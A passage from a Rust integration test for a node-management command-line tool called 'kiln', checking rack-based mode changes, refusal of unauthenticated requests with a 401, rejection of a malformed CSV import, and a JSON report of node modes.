    assert!(String::from_utf8_lossy(&out.stdout).contains("0 node(s) labelled, 3 new"));
    let out = kiln(&[
        "nodes",
        "mode",
        "hold",
        "--rack",
        "R12",
        "--server",
        &base,
        "--token-file",
        token.to_str().unwrap(),
    ]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("2 node(s) set to hold"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Without the admin token: refused with the server's message, exit 2.
    let out = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args(["nodes", "mode", "local", "--all", "--server", &base])
        .env_remove("KILN_ADMIN_TOKEN")
        .current_dir(&data)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("401"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A bad CSV names its lines and changes nothing.
    std::fs::write(&csv, "52:54:00:aa:00:09,R1\n").unwrap();
    let out = kiln(&[
        "nodes",
        "import",
        csv.to_str().unwrap(),
        "--server",
        &base,
        "--token-file",
        token.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("line 1: 2 fields"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = kiln(&[
        "report", "--server", &base, "--rack", "R12", "--format", "json",
    ]);
    let rows: Vec<Value> = serde_json::from_slice(&report.stdout).unwrap();
    assert_eq!(rows.len(), 2);
    assert!(rows.iter().all(|r| r["mode"] == "hold"));
}
